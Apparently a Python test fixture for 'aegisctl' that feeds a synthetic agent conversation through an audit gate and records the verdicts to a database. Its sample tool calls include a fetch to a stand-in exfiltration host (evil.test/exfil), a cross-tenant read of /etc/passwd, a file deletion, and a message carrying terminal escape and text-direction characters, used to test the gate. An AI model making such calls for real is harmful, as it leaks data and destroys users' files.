"""A real log for the tests of aegisctl: the gate writes it, on the real engine and rules."""

import asyncio
from collections.abc import Awaitable, Callable, Mapping, Sequence
from itertools import count
from pathlib import Path

from aegisd import compose, resources
from aegisd.audit import rules
from aegisd.core.proposal import read
from aegisd.engine.engine import Engine
from aegisd.store.memory import MemoryStore
from aegisd.store.sqlite.store import SqliteStore

# 2023-11-14T22:13:20Z, the time of the design's hash vectors.
START_MS = 1_700_000_000_000

Record = Callable[[Engine], Awaitable[None]]


class SteadyClock:
    """A millisecond per look, the same in every run, at UTC everywhere."""

    def __init__(self) -> None:
        self._ticks, self._last = count(START_MS), START_MS

    def now_ms(self) -> int:
        """The next millisecond."""
        self._last = next(self._ticks)
        return self._last

    def elapsed_ms(self) -> int:
        """As it was on the wall: this clock never jumps."""
        return self._last

    def utc_offset_s(self, zone: str, now_ms: int) -> int:
        """None."""
        return 0


def event(
    event_type: str,
    payload: object,
    *,
    session_id: str = "s1",
    tenant_id: str = "acme",
) -> dict[str, object]:
    """A request as an agent sends it."""
    return {
        "tenant_id": tenant_id,
        "session_id": session_id,
        "event_type": event_type,
        "payload": payload,
        "agent_id": "helper",
        "user_id": "u1",
        "ts_unix_ms": START_MS,
    }


def call(
    tool: str, args: Mapping[str, object], *, session_id: str = "s1", tenant_id: str = "acme"
) -> dict[str, object]:
    """A proposal."""
    payload = {"tool_name": tool, "args": dict(args)}
    return event("TOOL_CALL_PROPOSED", payload, session_id=session_id, tenant_id=tenant_id)


# Two sessions of one tenant that cross each other's path, and one of another tenant.
CONVERSATION: tuple[dict[str, object], ...] = (
    event("USER_MESSAGE", {"content": "Summarise my notes. Grüße, \u202eevil\x1b[2J"}),
    event("MODEL_CALL_STARTED", {"model": "small-1", "call_id": "m1"}),
    event("MODEL_CALL_FINISHED", {"call_id": "m1", "usage": {"input_tokens": 12}}),
    call("read_file", {"path": "/workspace/notes.txt"}),
    call("fetch", {"url": "https://docs.python.org/3/"}, session_id="s2"),
    event(
        "TOOL_RESULT", {"call_id": "c4", "result": {"ratio": 0.5, "größe": 1e3}, "latency_ms": 7}
    ),
    call("fetch", {"url": "https://evil.test/exfil"}, session_id="s2"),
    call("delete_file", {"path": "/workspace/notes.txt"}),
    call("write_file", {"path": "/workspace/out/a.txt", "content": "x"}, session_id="s2"),
    event("TERMINATION", None, session_id="s2"),
    call("read_file", {"path": "/etc/passwd"}, tenant_id="zeta", session_id="z1"),
)


def record(
    store: MemoryStore | SqliteStore,
    conversation: Sequence[Mapping[str, object]] = CONVERSATION,
    *,
    then: Record | None = None,
) -> None:
    """Let the gate judge and record a conversation, under the quick-start manifest."""
    asyncio.run(_record(store, conversation, then))


async def _record(
    store: MemoryStore | SqliteStore,
    conversation: Sequence[Mapping[str, object]],
    then: Record | None,
) -> None:
    judge = rules.judge(store.document)
    manifest = resources.manifests() / "quickstart.json"
    engine = compose.engine(
        store,
        judge,
        compose.configured(judge, compose.read_manifest(manifest)),
        clock=SteadyClock(),
        on_fatal=_fatal,
    )
    await engine.start()
    for request in conversation:
        await engine.append((read(dict(request)),))
    if then is not None:
        await then(engine)
    await engine.stop()


def _fatal(reason: str) -> None:
    raise AssertionError(reason)


def database(folder: Path, conversation: Sequence[Mapping[str, object]] = CONVERSATION) -> Path:
    """A database file that a daemon wrote and closed."""
    path = folder / "aegis.db"
    store = SqliteStore(str(path))
    record(store, conversation)
    store.close()
    return path
